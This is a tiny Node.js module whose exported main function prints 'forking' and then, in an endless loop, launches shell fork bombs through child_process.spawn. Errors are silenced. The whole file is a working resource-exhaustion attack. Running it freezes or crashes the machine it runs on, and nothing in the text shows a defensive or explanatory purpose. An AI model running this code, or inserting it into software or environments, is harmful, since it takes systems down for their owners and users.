const { spawn } = require('node:child_process');

exports.main = () => {
  console.log('forking');
  for (;;) spawn('/bin/sh', ['-c', 'f() { f | f & }; f'], { stdio: 'ignore' }).on('error', () => {});
};
